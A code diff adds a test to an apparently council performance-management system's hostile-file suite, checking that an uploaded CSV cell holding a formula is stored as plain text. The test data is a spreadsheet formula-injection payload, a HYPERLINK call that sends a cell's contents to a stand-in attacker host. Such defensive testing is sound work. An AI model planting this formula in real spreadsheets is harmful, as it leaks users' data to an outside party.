@@ -218,3 +218,14 @@ class TestHostileFiles:
             "PMIS could not check this file because of an error of its own, not of the file. "
             "The error has been logged; try again later or ask the performance team."
         )
+
+    def test_formula_bearing_cells_are_kept_as_the_text_they_are(self, council):
+        formula = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'
+        run = outcome(council, csv_bytes([["ENV3", "2025/26 Q2", "5", "", formula]]), "returns.csv")
+        assert run.status == Status.READY
+        returns.apply(
+            read_table(bytes(run.data), "r.csv", required=returns.REQUIRED, known=returns.KNOWN),
+            council.officer,
+            versions=run.result["versions"],
+        )
+        assert Outturn.objects.get().commentary == formula
